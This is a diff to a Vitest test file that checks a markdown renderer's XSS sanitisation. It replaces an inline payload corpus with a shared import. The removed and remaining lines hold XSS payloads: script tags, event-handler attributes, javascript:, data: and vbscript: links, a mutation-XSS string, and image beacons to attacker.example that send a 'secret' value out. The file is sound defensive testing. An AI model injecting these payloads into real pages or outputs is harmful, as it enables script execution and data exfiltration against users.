@@ -1,21 +1,11 @@
 // @vitest-environment happy-dom
 import { describe, expect, it } from 'vitest';
+import { XSS_PAYLOADS } from '../../../e2e/mock-provider/reply-content';
 import { renderMarkdownBlock, renderMarkdownToHtml } from './render-markdown';
 
-/** The corpus of security.md T27/T28 (and the mock provider's `xss` scenario). */
+/** The corpus of security.md T27/T28, shared with the mock provider's `xss` scenario, plus a few more. */
 const XSS_CORPUS = [
-  '<script>window.__pwned=1</script>',
-  '<img src=x onerror="window.__pwned=1">',
-  '[link](javascript:window.__pwned=1)',
-  '![a](https://attacker.example/p?d=secret)',
-  '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
-  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
-  '<a href="javascript:window.__pwned=1">click me</a>',
-  '[data link](data:text/html,<script>window.__pwned=1</script>)',
-  '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
-  '$\\href{javascript:window.__pwned=1}{KaTeX link}$',
-  '<img src="https://attacker.example/beacon.png?d=secret">',
+  ...XSS_PAYLOADS,
   '[JaVaScRiPt](  JAVASCRIPT:alert(1))',
   '<a href="https://ok.example" onclick="window.__pwned=1">ok</a>',
   '[x](vbscript:msgbox(1))',
